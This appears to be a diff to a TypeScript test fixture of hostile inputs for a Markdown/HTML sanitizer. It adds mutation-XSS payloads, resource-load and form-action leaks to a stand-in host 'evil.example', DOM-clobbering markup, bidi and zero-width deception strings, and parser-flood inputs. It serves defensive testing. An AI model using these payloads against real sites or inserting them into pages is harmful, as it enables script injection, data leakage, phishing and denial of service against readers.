@@ -127,4 +127,141 @@ const structures = [
   '\u{E000}javascript:hit() [x](\u{E000}//example.com)',
 ];
 
-export const HOSTILE_DOCUMENTS: readonly string[] = [...handlers, ...links, ...structures];
+/** Markup that a second parser reads differently from the first (mutation XSS), by namespaces, comments and raw text. */
+const mutations = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=hit()&gt;">',
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></annotation-xml></math>',
+  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>"></style></mtext></svg></mglyph></mi></math>',
+  '<svg><foreignObject><math><mi><p><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;"></p></mi></math></foreignObject></svg>',
+  '<svg><title><img src=x onerror=hit()></title></svg>',
+  '<svg><desc><template><img src=x onerror=hit()></template></desc></svg>',
+  '<svg><style>&lt;img src=x onerror=hit()&gt;</style></svg>',
+  '<svg><image href="x" onerror=hit()></image></svg>',
+  '<svg><animate attributeName=href values="javascript:hit()" begin=0s><a id=x><text>text</text></a></svg>',
+  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hit()>">text</a>',
+  '<table><tr><td><form><table><form><img src=x onerror=hit()></table></form></td></tr></table>',
+  '<noscript><style></noscript><img src=x onerror=hit()></style></noscript>',
+  '<noembed><p title="</noembed><img src=x onerror=hit()>"></noembed>',
+  '<noframes><img title="</noframes><img src=x onerror=hit()>"></noframes>',
+  '<iframe><img title="</iframe><img src=x onerror=hit()>"></iframe>',
+  '<template shadowrootmode=open><script>hit()</script><slot></slot></template>',
+  '<div><template shadowrootmode=closed><img src=x onerror=hit()></template></div>',
+  '<x is="y" onclick=hit()><slot name=z></slot></x>',
+  '<a href="&Tab;java&NewLine;script&colon;hit&lpar;&rpar;">text</a>',
+  '<a href="&#0000106&#0000097&#0000118&#0000097script:hit()">text</a>',
+  '<a href="javascript&#x3A;hit()">text</a>',
+  '&lt;script&gt;hit()&lt;/script&gt; &amp;lt;img src=x onerror=hit()&amp;gt;',
+  '<img src="x" alt="`onerror=hit()`" title=\'" onerror="hit()\'>',
+  '<p title="<!--"></p><img src=x onerror=hit()><!-- -->',
+  '<br><b><i></b><p></i><table><b><tr><i><img src=x onerror=hit()></table>',
+];
+
+/** Attempts to load, send or cover something without a script. */
+const leaks = [
+  '<img src="https://evil.example/pixel.png" width=1 height=1>',
+  '<img srcset="https://evil.example/a.png 1x, javascript:hit() 2x">',
+  '<picture><source srcset="//evil.example/a.png"><img src=x></picture>',
+  '<video src="https://evil.example/a.mp4" autoplay poster="https://evil.example/a.png"></video>',
+  '<audio src="//evil.example/a.mp3" autoplay></audio>',
+  '<link rel=preload href="https://evil.example/a.js" as=script>',
+  '<link rel=dns-prefetch href="//evil.example">',
+  '<object data="https://evil.example/a.svg"></object>',
+  '<table background="https://evil.example/a.png"><tr><td background="//evil.example/b.png">text</td></tr></table>',
+  '<body background="https://evil.example/a.png">',
+  '<p style="background-image:url(https://evil.example/a.png)">text</p>',
+  '<style>@import url(https://evil.example/a.css); p{background:url(//evil.example/a.png)}</style>',
+  '<style>@font-face{font-family:x;src:url(https://evil.example/a.woff2)}</style>',
+  '<svg><feImage href="https://evil.example/a.png"/></svg>',
+  '<svg><image xlink:href="https://evil.example/a.png"/></svg>',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+  '<meta http-equiv=set-cookie content="a=b">',
+  '<base href="https://evil.example/" target=_top>',
+  '<form action="https://evil.example/" id=portal.form><input name=a autofocus><button>Sign in</button></form>',
+  '<button form="search" formaction="https://evil.example/">text</button>',
+  '<input type=hidden name=page value=x form=portal>',
+  '<dialog open><p>Sign in again</p></dialog>',
+  '<p popover=manual id=x class="portal-top skip hidden">text</p><button popovertarget=x>text</button>',
+  '<div class="portal-top" role=banner aria-live=assertive tabindex=1 contenteditable>text</div>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.hit()&gt;" src="https://evil.example/"></iframe>',
+  '<frameset><frame src="javascript:parent.hit()"></frameset>',
+  '<portal src="https://evil.example/"></portal>',
+  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
+  '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
+];
+
+/** Names that scripts of a page read from the document (DOM clobbering). */
+const clobbering = [
+  ...['hit', 'location', 'document', 'body', 'forms', 'axe', 'cookie', 'defaultView', 'currentScript', '__proto__'].map(
+    (name) =>
+      `<a id=${name} href="javascript:hit()"></a><a id=${name} name=b></a><img name=${name}><form name=${name}></form>`,
+  ),
+  '## search\n\n## portal.navigation\n\n## portal.content\n\n## constructor\n\n## __proto__\n\n## hasOwnProperty',
+  '[^__proto__] [^constructor]\n\n[^__proto__]: text\n[^constructor]: text',
+];
+
+/** Text that hides or reorders what a person reads. */
+const deceptions = [
+  '\u202Etxet desrever\u202C [https://example.com](https://evil.example)',
+  '\u2066\u2067\u202E'.repeat(500),
+  'a\u0301'.repeat(2_000),
+  `z${'\u0335\u0489'.repeat(3_000)}`,
+  '\u200B\u200C\u200D\u2060\uFEFF'.repeat(1_000),
+  '\0\u0001\u001B[31mred\u001B[0m\u009B',
+  '\uFFFE \uFFFF',
+  `[${'\u{E0041}'.repeat(100)}](start.md)`,
+];
+
+/** Input for which the time or the depth of a parser grows faster than the text. */
+export const FLOODS: readonly string[] = [
+  '>'.repeat(5_000),
+  '> '.repeat(3_000),
+  `${'- '.repeat(1_500)}x`,
+  `${'1. '.repeat(1_500)}x`,
+  '['.repeat(10_000),
+  '![['.repeat(4_000),
+  `${'['.repeat(3_000)}x${']'.repeat(3_000)}(y)`,
+  '**a _b '.repeat(3_000),
+  '*a**b***c'.repeat(2_000),
+  '`'.repeat(10_001),
+  '`a``b```c'.repeat(2_000),
+  '<'.repeat(20_000),
+  '</'.repeat(10_000),
+  '<!--'.repeat(5_000),
+  '<a href="'.repeat(4_000),
+  '<!-- -- '.repeat(4_000),
+  '&'.repeat(20_000),
+  '&#x'.repeat(8_000),
+  `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}`,
+  `${'a | b\n'.repeat(2_000)}`,
+  `| a |\n| - |\n${'| x |\n'.repeat(2_000)}`,
+  `${'x\n'.repeat(3_000)}===`,
+  `${' '.repeat(30_000)}x`,
+  '\t'.repeat(10_000),
+  'http://'.repeat(3_000),
+  'a@b.'.repeat(3_000),
+  `www.${'a.'.repeat(5_000)}com`,
+  `${'<b><i><u>'.repeat(700)}x`,
+  `${'<table><tr><td>'.repeat(600)}x`,
+  `${'<ul><li>'.repeat(1_000)}x`,
+  `${'<details><summary>'.repeat(600)}x`,
+  `${Array.from({ length: 2_000 }, (_, index) => `[^${index}]`).join(' ')}\n\n${Array.from({ length: 2_000 }, (_, index) => `[^${index}]: note`).join('\n')}`,
+  `${Array.from({ length: 2_000 }, (_, index) => `[a${index}]: x${index}`).join('\n')}\n\n${'[a1][a2]'.repeat(2_000)}`,
+  '# a\n\n'.repeat(2_000),
+  `\`\`\`js\n${'/*'.repeat(5_000)}${'((((('.repeat(2_000)}\n\`\`\``,
+  `\`\`\`ts\n${'<T extends '.repeat(2_000)}\n\`\`\``,
+  `\`\`\`yaml\n${'- '.repeat(5_000)}\n\`\`\``,
+  `\`\`\`xml\n${'<a b="'.repeat(3_000)}\n\`\`\``,
+  `\`\`\`python\n${'f"{'.repeat(3_000)}\n\`\`\``,
+  `\`\`\`${'x'.repeat(10_000)}\ntext\n\`\`\``,
+];
+
+/** The documents that attack the reader. */
+export const HOSTILE_MARKUP: readonly string[] = [
+  ...handlers,
+  ...links,
+  ...structures,
+  ...mutations,
+  ...leaks,
+  ...clobbering,
+  ...deceptions,
+];
